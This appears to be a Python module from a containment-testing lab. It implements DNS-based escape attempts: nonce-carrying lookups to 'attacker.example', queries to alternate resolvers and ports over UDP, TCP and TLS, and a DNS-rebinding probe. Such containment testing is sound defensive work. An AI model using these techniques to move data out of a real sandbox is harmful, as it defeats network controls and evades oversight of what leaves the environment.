"""Attempts by way of DNS: other resolvers, other ports, and names that carry data out through the resolver that is permitted."""

from __future__ import annotations

import contextlib
import socket
import struct

from containment.lab.world.attacks.task import Attempt, Technique, closing, trusting

_TYPES = {"A": 1, "NS": 2, "CNAME": 5, "NULL": 10, "PTR": 12, "MX": 15, "TXT": 16, "AAAA": 28, "SRV": 33, "ANY": 255}


def query(name: str, qtype: str = "A") -> bytes:
    """Return a DNS query."""
    labels = b"".join(bytes([len(label)]) + label.encode("latin-1") for label in name.split("."))
    return b"\x5a\x3c\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + labels + b"\0" + struct.pack("!HH", _TYPES[qtype], 1)


def dns(attempt: Attempt) -> None:
    """Ask somebody for a name that holds the nonce: over UDP, TCP or TLS, at any port."""
    name = attempt.option("name", "NONCE.attacker.example")
    at = attempt.option("at", "attacker")
    attempt.options["to"] = {"resolver": attempt.resolver, "amazon": "169.254.169.253"}.get(at, at)
    attempt.marks.append(name.lower())
    data, port = query(name, attempt.option("type", "A")), attempt.number("port", 53)
    if attempt.option("via", "udp") == "udp":
        where = attempt.target()
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as handle:
            handle.settimeout(1.5)
            for _ in range(2):
                handle.sendto(data, (where, port))
                with contextlib.suppress(TimeoutError):
                    handle.recv(4096)
                    return
        return
    with closing(attempt.connect(port)) as handle:
        whole = struct.pack("!H", len(data)) + data
        if attempt.option("via") == "tls":
            attempt.marks.append(attempt.option("sni").lower())
            with trusting().wrap_socket(handle, server_hostname=attempt.option("sni") or None) as inside:
                inside.sendall(whole)
                return
        handle.sendall(whole)


def rebind(attempt: Attempt) -> None:
    """Look up a public name that answers with a private address, and talk to whoever is there."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as handle:
        handle.settimeout(3)
        attempt.marks.append("rebind.attacker.example")
        handle.sendto(query("rebind.attacker.example"), (attempt.resolver, 53))
        reply = handle.recv(4096)
    if len(reply) < 16 or struct.unpack_from("!H", reply, 6)[0] == 0:
        raise ConnectionError("no address was told")
    attempt.options["to"] = socket.inet_ntoa(reply[-4:])
    with closing(attempt.connect(443)) as handle:
        handle.sendall(attempt.nonce.encode())


TECHNIQUES: dict[str, Technique] = {"dns": dns, "rebind": rebind}
